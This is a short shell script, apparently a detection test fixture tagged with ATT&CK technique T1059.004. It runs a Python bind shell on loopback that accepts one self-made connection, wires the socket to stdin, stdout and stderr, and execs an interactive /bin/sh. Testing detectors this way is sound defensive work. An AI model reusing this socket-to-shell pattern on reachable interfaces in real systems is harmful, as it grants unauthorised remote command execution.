#!/bin/bash
# A bind shell on loopback: listen on a port the kernel picks, accept one connection, put
# it on stdin/stdout/stderr and run /bin/sh; the client sends one command and exit.
# technique: T1059.004
# expect: bind-shell-listener
set -eu
python3 - <<'PY'
import os, socket
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
port = srv.getsockname()[1]
if os.fork() == 0:
    c = socket.create_connection(("127.0.0.1", port))
    c.sendall(b"id >/dev/null; exit\n")
    c.recv(1)
    c.close()
    os._exit(0)
conn, _ = srv.accept()
srv.close()
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
PY
